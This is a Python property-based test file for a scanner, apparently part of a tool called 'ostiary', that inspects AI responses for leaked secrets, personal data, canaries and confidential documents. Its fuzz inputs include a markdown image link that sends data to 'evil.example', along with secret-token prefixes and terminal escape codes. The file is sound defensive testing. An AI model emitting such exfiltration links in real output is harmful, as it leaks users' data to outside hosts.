"""Laws of response inspection: no cut of a text matters, and the fast way finds what the slow way finds."""

import re
from random import Random

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, initialize, invariant, precondition, rule
from tests.thoroughness import tries

from ostiary.inspection.response import DEFAULT_ACTIONS, Action, Document, Leaks, LeakSettings
from ostiary.inspection.response.automaton import LIVES, Automaton
from ostiary.inspection.response.beside import BesideWatch
from ostiary.inspection.response.canaries import canary_for
from ostiary.inspection.response.heard import Heard
from ostiary.inspection.response.pii.contact import EMAIL, PHONE
from ostiary.inspection.response.pii.ibans import IBAN
from ostiary.inspection.response.pii.numbers import NUMBERS
from ostiary.inspection.response.regions import Region
from ostiary.inspection.response.secrets import rules, secret_patterns
from ostiary.inspection.response.terminal import TERMINAL
from ostiary.testing import leaks as drawn

CANARY = canary_for(b"k" * 32, "default", "request", "r-1")
DOCUMENTS = (
    Document("The merger with Halcyon closes on the ninth of March at forty two dollars a share, in cash."),
    Document("Our public price list names nine plans, of which the fourth is the one most people take.", cleared=True),
)
LOOKED_FOR_APART = ("link", "secret.beside")  # no pattern, or one of another machine
SETTINGS = (
    Leaks(),
    Leaks(
        LeakSettings(actions={**DEFAULT_ACTIONS, "document": Action.REDACT, "canary": Action.REDACT, "pii": Action.ASK})
    ),
    Leaks(LeakSettings(actions={**DEFAULT_ACTIONS, "pii.email": Action.REDACT}, egress_hosts=("ok.example",))),
)
_RANDOM = Random(20261127)  # noqa: S311 - seeded
_PLANTED = [drawn.secrets_of(_RANDOM, one).text for one in _RANDOM.sample(rules(), 60)]
_PLANTED += [planted.text for planted in drawn.people(_RANDOM)]
_ODD = [
    "![x](https://evil.example/?d=the+list) ", "[a](", "](https://ok.example/a?b=c d)",
    "<img src='//e.example/x?y=z w'", "\x1b[31m", "\x1b]0;t", "\u200b", "\ud83d", "\ude00", "\\u00", "41", "\\",
    '"', "token = ", "api_key: ", "ghp_", "AKIA", "-----BEGIN PRIVATE KEY-----\n", "4111 1111 ", "DE89 ", CANARY,
    CANARY[:9], CANARY[::-1], "é", "世界", "me@corp.org ", DOCUMENTS[0].text, DOCUMENTS[0].text[:40],
    DOCUMENTS[1].text, DOCUMENTS[1].text[20:], " the ", "\n\n", "secret ", "**Token:** `", "q7Xw2Lr9Tz4", "Kp8Vn3Bd5",
    "`",
    "~", "..", "the commit ", "=",
]  # fmt: skip
pieces = st.one_of(
    st.sampled_from(_ODD),
    st.sampled_from(_PLANTED),
    st.builds(lambda text, at: text[: at % len(text)], st.sampled_from(_PLANTED), st.integers(1, 200)),
    st.text(st.characters(codec=None), max_size=8),
)
texts = st.lists(pieces, max_size=6).map("".join)


def told(scan, parts):
    return "".join(map(scan.feed, parts)) + scan.close(), scan.verdict


@settings(max_examples=tries(100, 250), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts, st.lists(st.integers(0, 600), max_size=8), st.sampled_from(SETTINGS), st.booleans())
def test_however_a_text_is_cut_the_same_leaves(text, places, leaks, escaped):
    edges = sorted({0, len(text), *(place % (len(text) + 1) for place in places)})
    parts = [text[a:b] for a, b in zip(edges, edges[1:], strict=False)]  # noqa: RUF007 - reads as what it is
    whole = told(leaks.scan([CANARY], DOCUMENTS, escaped=escaped), [text])
    assert told(leaks.scan([CANARY], DOCUMENTS, escaped=escaped), parts) == whole
    assert told(leaks.scan([CANARY], DOCUMENTS, escaped=escaped), text) == whole
    assert isinstance(whole[0].encode(), bytes)  # no half of a pair leaves


@settings(max_examples=tries(100, 150), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts)
def test_regions_find_what_looking_at_all_of_it_finds(text):
    text = text.encode("ascii", "replace").decode()
    judges = dict.fromkeys(pattern.judge for pattern in (*secret_patterns(), *NUMBERS, IBAN, EMAIL, PHONE, TERMINAL))
    slow = {(find.start, find.end, find.rule) for judge in judges for find in judge(Region("", text, ""))}
    scan = SETTINGS[0].scan()
    scan.feed(text)
    scan.close()
    fast = {(find.start, find.end, find.rule) for find in scan.findings if not find.rule.startswith(LOOKED_FOR_APART)}
    assert fast == slow


@settings(max_examples=tries(100, 150), deadline=None)
@given(st.lists(st.sampled_from(_ODD), max_size=8).map("".join), st.integers(1, 7))
def test_a_value_beside_a_name_is_found_the_same_in_pieces(text, size):
    def told(pieces):
        heard = Heard()
        watch, found = BesideWatch(heard), []
        for piece in pieces:
            before = watch.hold
            found += [(span, before) for span in watch.feed(*heard.push(piece))]
        return [*found, *((span, watch.hold) for span in watch.close())]

    text = text.encode("ascii", "replace").decode()
    slow = [span for span, _ in told([text])]
    fast = told([text[at : at + size] for at in range(0, len(text), size)])
    assert [span for span, _ in fast] == slow
    assert all(held <= span.start for span, held in fast[:-1])  # what it told of had not left


EXPRESSIONS = [
    "a{2,3}b", "(?:ab|c){1,2}d?", "x(?:a|b c){0,6}y", "[ab]{5}", "a(?:b|)c*", "(?i)Ab[0-9]{2,}", "(a?b?){2}c", "a.c",
    r"\w{3} \d+", "[^a-c]x", "b{18,20}c", "(?i:a)(?-i:b)", r"a\x62", "ab??c+?",
]  # fmt: skip
MACHINE = Automaton([(expression, False) for expression in EXPRESSIONS])


@settings(max_examples=tries(100, 400), deadline=None)
@given(st.text("abcdxyAB 012\n", max_size=24))
def test_the_automaton_never_says_impossible_of_a_match(text):
    node, apart, hits = MACHINE.start, [], []
    for letter in text:
        node, fate, ended = MACHINE.step(node, letter)
        apart.append(fate != LIVES)
        hits.append(ended)
    for index, expression in enumerate(EXPRESSIONS):
        for start in range(len(text)):
            for end in range(start + 1, len(text) + 1):
                if re.compile(expression).fullmatch(text, start, end):
                    assert index in hits[end - 1]
                    assert not any(apart[start + 1 : end])


class Streams(RuleBasedStateMachine):
    """One text, told by an adversary in pieces of his choice, beside the same text told at once."""

    def __init__(self):
        super().__init__()
        self.begin(SETTINGS[0], escaped=False)

    @initialize(leaks=st.sampled_from(SETTINGS), escaped=st.booleans())
    def begin(self, leaks, escaped):
        self.leaks, self.escaped = leaks, escaped
        self.scan = leaks.scan([CANARY], DOCUMENTS, escaped=escaped)
        self.said, self.left, self.open = "", "", True

    @precondition(lambda self: self.open)
    @rule(piece=pieces)
    def say(self, piece):
        self.said += piece
        self.left += self.scan.feed(piece)

    @precondition(lambda self: self.open)
    @rule()
    def close(self):
        self.left += self.scan.close()
        self.open = False
        assert self.left == self.whole()

    @precondition(lambda self: self.open)
    @rule()
    def breaks(self):
        self.scan.abandon()
        self.open = False
        assert self.scan.feed("x") + self.scan.close() == ""

    @precondition(lambda self: not self.open)
    @rule(leaks=st.sampled_from(SETTINGS), escaped=st.booleans())
    def again(self, leaks, escaped):
        self.begin(leaks, escaped)

    @invariant()
    def what_left_is_the_beginning_of_what_leaves(self):
        assert self.whole().startswith(self.left)

    def whole(self):
        return told(self.leaks.scan([CANARY], DOCUMENTS, escaped=self.escaped), [self.said])[0]


Streams.TestCase.settings = settings(
    max_examples=40, stateful_step_count=12, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)
TestStreams = Streams.TestCase
